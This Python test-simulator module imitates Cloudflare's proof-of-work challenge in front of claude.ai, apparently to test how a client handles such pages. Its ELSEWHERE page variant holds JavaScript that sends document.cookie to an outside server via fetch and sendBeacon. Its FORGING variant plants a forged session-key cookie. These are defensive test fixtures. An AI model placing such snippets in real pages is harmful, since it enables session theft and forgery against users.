"""Cloudflare's check in front of claude.ai: a client must run a script to get a clearance cookie.

As at Cloudflare, the cookie is only valid for the user agent that solved the challenge.
"""

from __future__ import annotations

import secrets
from dataclasses import dataclass, field
from enum import StrEnum
from string import Template
from urllib.parse import parse_qs, urlsplit

from tests.simulator.account import cookies_of
from tests.simulator.script import Fault, Reply

CLEARANCE = "cf_clearance"
ANSWER_PATH = "/cdn-cgi/challenge-platform/answer"
HANG_PATH = "/cdn-cgi/challenge-platform/hang"
ZERO_BITS = 10  # of the hash: about a thousand attempts, which take a browser milliseconds

_HEADERS = {"cf-mitigated": "challenge", "Server": "cloudflare"}

_PAGE = Template("""<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>
<p>Checking your browser.</p>
<script>
"use strict";
function hash(text) {
  let value = 2166136261;
  for (const char of text) value = Math.imul(value ^ char.charCodeAt(0), 16777619) >>> 0;
  return value;
}
function solve(seed) {
  for (let n = 0; ; n += 1) if (hash(seed + ":" + n) % (2 ** $bits) === 0) return n;
}
async function pass(seed) {
  $before
  await fetch("$answer?seed=" + seed + "&n=" + solve(seed));
  location.reload();
}
$start
</script>$after</body></html>""")

_ELSEWHERE = """
  const other = "$other";
  const add = (tag, src) => document.body.append(Object.assign(document.createElement(tag), {src}));
  const tries = [
    () => fetch(other + "/fetched?" + document.cookie, {mode: "no-cors"}),
    () => navigator.sendBeacon(other + "/beacon", document.cookie),
    () => { new Image().src = other + "/image"; },
    () => add("iframe", other + "/frame"),
    () => add("script", other + "/script"),
    () => new WebSocket(other.replace("http", "ws") + "/socket"),
    () => new EventSource(other + "/events"),
    () => open(other + "/opened"),
    () => { location.href = other + "/gone"; },
  ];
  for (const attempt of tries) try { await attempt(); } catch { /* blocked */ }
  await new Promise((done) => setTimeout(done, 500));
"""


FORGED_KEY = "sk-ant-sid02-FORGED-by-a-script-0123456789"

_FORGING = f"""
  document.cookie = "sessionKey={FORGED_KEY}; path=/api";
"""


class Kind(StrEnum):
    """The behavior of the check."""

    SCRIPT = "script"
    """A browser that runs the script passes."""
    PERSON = "person"
    """The page waits for a click, so no browser passes on its own."""
    ELSEWHERE = "elsewhere"
    """The page tries in every way to reach another server, then a browser passes."""
    FORGING = "forging"
    """The page's script sets a session key cookie, then a browser passes."""
    FORGETFUL = "forgetful"
    """The clearance cookie does not stick, so a browser that solves the check gets the next one."""
    UNFINISHED = "unfinished"
    """The page loads a script that never arrives."""


_BEFORE = {Kind.ELSEWHERE: _ELSEWHERE, Kind.FORGING: _FORGING}


def fnv(text: str) -> int:
    """Return the 32-bit FNV-1a hash, as the page computes it."""
    value = 2166136261
    for char in text:
        value = ((value ^ ord(char)) * 16777619) & 0xFFFFFFFF
    return value


@dataclass(slots=True)
class Gate:
    """The state of the check.

    Attributes:
        other: the base URL that pages of the kind ``ELSEWHERE`` try to reach.
        seeds: the challenges that are not solved yet.
        cleared: the user agent by clearance cookie.
        over_tls: whether the cookie is set as over HTTPS. A browser keeps that one only there.
    """

    kind: Kind = Kind.SCRIPT
    other: str = ""
    seeds: set[str] = field(default_factory=set)
    cleared: dict[str, str | None] = field(default_factory=dict)
    over_tls: bool = False

    def stop(self, target: str, headers: dict[str, str]) -> Reply | None:
        """Return the check's response to a request, ``None`` if the request passes."""
        parts = urlsplit(target)
        if parts.path == ANSWER_PATH:
            return self._judge(parts.query, headers)
        if parts.path == HANG_PATH:
            return Reply(fault=Fault.HANG)
        if self._is_cleared(headers):
            return None
        return Reply(403, self._page(), _HEADERS)

    def _is_cleared(self, headers: dict[str, str]) -> bool:
        clearance = cookies_of(headers.get("cookie")).get(CLEARANCE)
        agent = headers.get("user-agent")
        return clearance in self.cleared and self.cleared[clearance] == agent

    def _judge(self, query: str, headers: dict[str, str]) -> Reply:
        answer = {name: values[0] for name, values in parse_qs(query).items()}
        seed, number = answer.get("seed", ""), answer.get("n", "")
        if seed not in self.seeds or fnv(f"{seed}:{number}") % 2**ZERO_BITS:
            return Reply(403, "wrong")
        self.seeds.discard(seed)
        clearance = secrets.token_hex(16)
        self.cleared[clearance] = headers.get("user-agent")
        # Cloudflare sets "SameSite=None; Secure" over HTTPS, and "SameSite=Lax" over HTTP:
        # https://developers.cloudflare.com/waf/troubleshooting/samesite-cookie-interaction/
        policy = "SameSite=None; Secure" if self.over_tls else "SameSite=Lax"
        policy = "SameSite=None" if self.kind is Kind.FORGETFUL else policy
        lifetime = "; Max-Age=0" if self.kind is Kind.FORGETFUL else ""
        return Reply(
            204, "", {"Set-Cookie": f"{CLEARANCE}={clearance}; Path=/; HttpOnly; {policy}{lifetime}"}
        )

    def _page(self) -> str:
        seed = secrets.token_hex(8)
        self.seeds.add(seed)
        waits = self.kind in {Kind.PERSON, Kind.UNFINISHED}
        return _PAGE.substitute(
            bits=ZERO_BITS,
            answer=ANSWER_PATH,
            before=_BEFORE.get(self.kind, "").replace("$other", self.other),
            start="" if waits else f'pass("{seed}");',
            after=f'<script src="{HANG_PATH}"></script>' if self.kind is Kind.UNFINISHED else "",
        )
